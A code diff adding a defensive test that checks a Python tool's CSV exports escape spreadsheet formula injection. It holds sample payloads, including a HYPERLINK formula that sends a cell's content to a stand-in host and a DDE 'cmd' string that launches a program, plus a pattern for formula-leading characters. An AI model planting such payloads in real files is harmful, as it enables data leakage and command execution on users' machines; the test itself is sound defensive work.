@@ -3,6 +3,7 @@ models that do not exist or ship pickled weights. Each ends with a clear message
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 import re
@@ -393,3 +394,60 @@ def test_csv_cells_that_look_like_formulas_are_quoted(tmp_path) -> None:
                  tmp_path / "r.csv")
     line = (tmp_path / "r.csv").read_text(encoding="utf-8").splitlines()[1]
     assert ",'=cmd|" in line and ",=cmd" not in line
+
+
+PAYLOADS = ("=HYPERLINK(\"http://example.invalid/?\"&A1,\"q1\")", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)",
+            "\t=1+1")
+
+
+def csv_cells(text: str) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+
+
+def kept_as_text(text: str) -> bool:
+    """Every payload is in the CSV as text: behind an apostrophe (white space around it may be stripped)."""
+    cells = {cell.strip() for cell in csv_cells(text)}
+    return all(f"'{payload}".strip() in cells or f"'{payload.strip()}" in cells for payload in PAYLOADS)
+
+
+def formula_cells(text: str) -> list[str]:
+    """The cells of a CSV that a spreadsheet program would run as formulas."""
+    return [cell for cell in csv_cells(text) if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+
+def test_every_csv_keeps_a_formula_from_a_paper_a_coded_sheet_or_a_gold_file_as_text(tmp_path) -> None:
+    """`mlpsych agree --out x.csv` wrote a question id or model of a coded sheet ("=HYPERLINK(...)") as it was, and
+    `mlpsych eval` those of a gold or prediction file, so the spreadsheet program that opened the CSV ran them; the
+    run's CSV quoted = + @ but not a minus ("-2+3+cmd|' /C calc'!A0") or a tab before them."""
+    from openpyxl import Workbook
+
+    from mlpsych.answers import Answer
+    from mlpsych.evaluation.evaluate import TableRow, to_csv
+    from mlpsych.export import write_result
+    from mlpsych.pipeline import RunResult
+
+    doc = Document(id="p", text="x")
+    question = QuestionTemplate(id="q1", text="What?", models=["m"])
+    answers = [Answer("p", "q1", payload, "normalized", ["m"], 0.5, final=True) for payload in PAYLOADS]
+    write_result(RunResult(documents=[doc], questions=QuestionSet(questions=[question]), answers=answers),
+                 tmp_path / "r.csv")
+    run_csv = (tmp_path / "r.csv").read_text(encoding="utf-8")
+    assert formula_cells(run_csv) == [] and kept_as_text(run_csv)
+
+    book = Workbook()
+    sheet = book.active
+    sheet.title = "answers"
+    sheet.append(["paper_id", "question_id", "answer", "stage", "models", "correct"])
+    for n, payload in enumerate(PAYLOADS):
+        sheet.append([f"p{n}", payload, "random forests", "extractive", "m", "yes"])
+    for row in sheet.iter_rows(min_row=2):
+        for cell in row:
+            cell.data_type = "s"  # typed into the sheet as text
+    book.save(tmp_path / "coded.xlsx")
+    assert main(["agree", str(tmp_path / "coded.xlsx"), "--out", str(tmp_path / "agree.csv")]) == 0
+    agree_csv = (tmp_path / "agree.csv").read_text(encoding="utf-8")
+    assert formula_cells(agree_csv) == [] and kept_as_text(agree_csv)
+
+    table = [TableRow(question=payload, model=payload, stage="extractive", metrics={"n": 1.0}) for payload in PAYLOADS]
+    eval_csv = to_csv(table, ["n"])
+    assert formula_cells(eval_csv) == [] and kept_as_text(eval_csv)
